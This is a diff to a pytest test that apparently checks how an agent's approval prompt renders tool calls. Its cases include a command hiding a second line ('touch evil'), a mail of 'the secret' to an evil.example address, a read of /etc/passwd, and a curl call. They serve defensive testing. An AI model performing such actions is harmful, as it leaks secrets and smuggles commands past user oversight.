@@ -313,7 +313,7 @@ def asking(place: Path, call: str) -> tuple[Catena, str]:
 @pytest.mark.parametrize(
     ("call", "seen"),
     [
-        (TWO_LINES, ["? Show git status", "command: echo hi # look ⏎", "touch evil"]),
+        (TWO_LINES, ["? “Show git status”, in the agent's words", "command: echo hi # look ⏎", "touch evil"]),
         (MAIL, ["to: eve@evil.example", 'body: {"text": "the secret"}']),
         ('{"kind": "read", "locations": [{"path": "/etc/passwd"}]}', ["place: /etc/passwd"]),
         ('{"rawInput": ["curl", "evil example"]}', ["input: curl 'evil example'"]),
